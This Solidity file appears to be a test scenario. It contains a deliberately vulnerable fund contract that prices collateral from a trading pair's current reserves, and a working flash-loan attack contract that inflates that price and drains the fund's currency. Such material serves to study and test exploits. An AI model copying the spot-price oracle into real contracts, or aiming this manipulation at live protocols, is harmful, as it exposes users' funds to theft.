// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FlashBorrower, FlashLender} from "../../scenarios/FlashLender.sol";
import {IERC20} from "../../scenarios/IERC20.sol";
import {Pair, Trader} from "../../scenarios/Pair.sol";

/// @title A fund that holds a pair's two tokens, whose hole is its oracle: it believes the price that the pair's reserves
/// say at this moment. Never use it for anything but tests. A guardian can stop it.
/// @notice Shares are bought with either token for what it is worth, and redeemed for the pair's token1.
contract PausableFund {
    Pair public immutable pair;
    IERC20 public immutable collateral;
    IERC20 public immutable currency;
    address public immutable owner;
    address public immutable guardian;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    /// In a slot of its own, and nothing in it: the costly kind of pause.
    bool public paused;

    event Deposited(address indexed account, IERC20 indexed token, uint256 amount, uint256 shares);
    event Redeemed(address indexed account, uint256 shares, uint256 amount);
    event Paused(address indexed by);
    event Unpaused(address indexed by);

    error IsPaused();
    error NotAllowed(address caller);

    modifier whenNotPaused() {
        if (paused) revert IsPaused();
        _;
    }

    constructor(Pair pair_, address guardian_) {
        pair = pair_;
        collateral = pair_.token0();
        currency = pair_.token1();
        owner = msg.sender;
        guardian = guardian_;
    }

    function pause() external {
        if (msg.sender != guardian) revert NotAllowed(msg.sender);
        paused = true;
        emit Paused(msg.sender);
    }

    function unpause() external {
        if (msg.sender != owner) revert NotAllowed(msg.sender);
        paused = false;
        emit Unpaused(msg.sender);
    }

    /// @notice What `amount` of collateral is worth in the currency.
    function valueOf(uint256 amount) public view returns (uint256) {
        (uint256 reserve0, uint256 reserve1,) = pair.getReserves();
        return amount * reserve1 / reserve0;
    }

    function totalAssets() public view returns (uint256) {
        return currency.balanceOf(address(this)) + valueOf(collateral.balanceOf(address(this)));
    }

    /// @notice What 1e18 shares are worth in the currency.
    function sharePrice() public view returns (uint256) {
        return totalSupply == 0 ? 1e18 : totalAssets() * 1e18 / totalSupply;
    }

    /// @notice Buys shares with the collateral or the currency.
    function deposit(IERC20 token, uint256 amount) external whenNotPaused {
        bool isCurrency = address(token) == address(currency);
        if (!isCurrency && address(token) != address(collateral)) revert NotAllowed(address(token));
        uint256 value = isCurrency ? amount : valueOf(amount);
        uint256 shares = value * 1e18 / sharePrice();
        token.transferFrom(msg.sender, address(this), amount);
        balanceOf[msg.sender] += shares;
        totalSupply += shares;
        emit Deposited(msg.sender, token, amount, shares);
    }

    function redeem(uint256 shares) external whenNotPaused {
        uint256 amount = shares * sharePrice() / 1e18;
        balanceOf[msg.sender] -= shares;
        totalSupply -= shares;
        currency.transfer(msg.sender, amount);
        emit Redeemed(msg.sender, shares, amount);
    }
}

/// @title Attack: buys collateral with a flash loan until its price is absurd, buys shares of the fund with a little of it,
/// redeems as many as empty the fund of its currency, and sells the rest of the collateral back.
contract FundManipulator is FlashBorrower, Trader {
    PausableFund private immutable fund;

    constructor(FlashLender lender, PausableFund fund_) FlashBorrower(lender) {
        fund = fund_;
    }

    function attack(uint256 amount) external {
        borrowAndUse(fund.currency(), amount);
    }

    function use(uint256 amount) internal override {
        (Pair pair, IERC20 collateral, IERC20 currency) = (fund.pair(), fund.collateral(), fund.currency());
        uint256 bought = sell(pair, currency, amount, address(this));
        uint256 paid = bought / 5;
        collateral.approve(address(fund), paid);
        fund.deposit(collateral, paid);
        uint256 all = currency.balanceOf(address(fund)) * 1e18 / fund.sharePrice();
        uint256 own = fund.balanceOf(address(this));
        fund.redeem(all < own ? all : own);
        sell(pair, collateral, bought - paid, address(this));
    }
}
